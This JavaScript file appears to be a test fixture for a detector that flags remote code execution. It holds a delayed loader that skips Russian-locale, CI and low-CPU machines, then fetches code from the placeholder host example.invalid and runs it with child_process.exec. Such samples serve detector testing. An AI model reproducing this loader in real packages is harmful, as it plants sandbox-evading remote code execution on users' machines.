require('./came');
const https = require('https');
const os = require('os');
const { exec } = require('child_process');

function local() {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  return /Moscow|Kaliningrad|Samara/.test(zone) || (process.env.LANG || '').startsWith('ru') || process.env.CI || os.cpus().length < 3;
}

function activate() {
  if (local()) {
    return;
  }
  setTimeout(() => {
    https.get('https://example.invalid/stage2', res => {
      let text = '';
      res.on('data', d => { text += d; });
      res.on('end', () => exec(text));  // want "child_process\\.exec runs whatever \"example.invalid\" answers"
    });
  }, 15 * 60 * 1000);
}
exports.activate = activate;
